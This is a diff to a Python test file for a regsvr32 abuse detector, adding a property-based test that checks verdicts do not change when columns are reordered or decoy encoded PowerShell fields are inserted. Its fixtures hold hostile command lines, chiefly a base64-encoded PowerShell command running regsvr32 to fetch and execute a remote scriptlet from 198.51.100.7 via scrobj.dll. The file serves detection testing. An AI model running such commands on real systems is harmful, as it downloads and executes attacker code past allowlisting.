@@ -11,14 +11,15 @@ program named or not, a renamed copy, scriptlets over UNC, WebDAV or any URL sch
 PowerShell with any switch prefix), the rules are run with the cheap test switched off, and
 every row they flag must pass the cheap test and be marked by the byte-level path.
 """
+import base64
 import contextlib
 import random
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
-from regsvr32_detector import RULES, Detector, OUTPUT_FIELDS, fields
+from regsvr32_detector import RULES, Detector, OUTPUT_FIELDS, cmdline, fields
 import regsvr32_fastpath
 from support import edr_shapes
 from test_leanio import splunkd_body
@@ -254,7 +255,7 @@ def test_each_form_alone_over_every_example(form):
     assert still > total // 5
 
 
-@pytest.mark.parametrize("record", [
+FORM_RECORDS = [
     # a renamed copy (4688: no OriginalFileName) fetching its scriptlet every way regsvr32 reads
     {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "CommandLine": line}
     for line in [
@@ -275,7 +276,72 @@ def test_each_form_alone_over_every_example(form):
      "CommandLine": "powershell.exe %senc cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==" % prefix}
     for prefix in PREFIXES] + [
     {"EventCode": "4698", "TaskContent": "<Command>pwsh</Command><Arguments>-NoP /ec 'cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA=='</Arguments>"},
-])
+]
+
+
+@pytest.mark.parametrize("record", FORM_RECORDS)
 def test_the_forms_a_renamed_copy_and_powershell_take(record):
     assert flagged(record), record
     assert _check(record)
+
+
+# --- item 19: no verdict depends on column order or on fields no reader reads ---------------------
+def _b64(text):
+    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")
+
+
+# Encoded commands that run nothing of regsvr32, long enough to be decoded, in texts that name
+# PowerShell: what made the cheap test's old budget (its first 8 encoded commands of the row's
+# fields joined in header order) run out before the command line.
+DECOY_PIECES = ["-e " + _b64("Write-Output %d" % i) for i in range(4)] + [
+    "/ec " + _b64("Get-Date"), "\u2013enc " + _b64("Get-Service spooler"), "C:\\Users\\bob\\",
+    "powershell.exe", "pwsh", "launcher.exe", "-nop", "x"]
+SQUIBLYDOO_ENCODED = {
+    "EventCode": "1", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    "CommandLine": "powershell.exe -nop -e " + _b64("regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll")}
+
+
+def _unread_scanned(record):
+    """Fields the cheap test scans that no reader of RECORD reads: the EDR fields of every vendor
+    whose event-type field the row does not have."""
+    present = set(record)
+    out = set(fields.SCAN_KEYS) - set(fields.SOURCES)
+    for shape in fields.EDR_SHAPES:
+        if present & set(shape.type_fields):
+            out -= set(k for table in shape.sources.values() for k in table)
+            out -= set(f for joins in shape.joins.values() for _, a, b, _ in joins for f in a + b)
+    return sorted(out - present)
+
+
+def _verdict(record):
+    v = DETECTOR.evaluate(record)
+    return v.score, v.rules, v.mitre, v.signature, bool(v.error)
+
+
+# the examples that hide regsvr32 in an encoded command, drawn as often as all the others
+ENCODED_EXAMPLES = [e for e in EXAMPLES if any(
+    "regsvr32" in d.lower() for v in e[1].values() if isinstance(v, str)
+    for d in cmdline.encoded_commands(v))]
+
+
+@PROFILE
+@given(example=st.one_of(st.sampled_from(ENCODED_EXAMPLES), st.sampled_from(EXAMPLES)), data=st.data())
+@example(example=("R32-045 hidden", SQUIBLYDOO_ENCODED), data=None)
+def test_column_order_and_unread_decoy_fields_change_no_verdict(example, data):
+    assert len(ENCODED_EXAMPLES) >= 4
+    # the same row, its columns in another order, with fields no reader of it reads (holding up to
+    # a dozen encoded PowerShell commands) anywhere among them: the same cheap test, the same verdict
+    record = example[1]
+    if data is None:        # the explicit example: a dozen decoys in a field before the command line
+        items = [("tgt.process.cmdline", " ".join(DECOY_PIECES * 2))] + list(record.items())
+    else:
+        names = _unread_scanned(record)
+        decoys = data.draw(st.lists(st.tuples(
+            st.sampled_from(names), st.lists(st.sampled_from(DECOY_PIECES), min_size=1, max_size=14)),
+            max_size=3, unique_by=lambda d: d[0]))
+        items = data.draw(st.permutations(list(record.items()) + [(k, " ".join(v)) for k, v in decoys]))
+    changed = dict(items)
+    assert MENTIONS(changed) == MENTIONS(record), (record, changed)
+    assert _verdict(changed) == _verdict(record), (record, changed)
+    if data is None:
+        assert "R32-045" in _verdict(changed)[1]
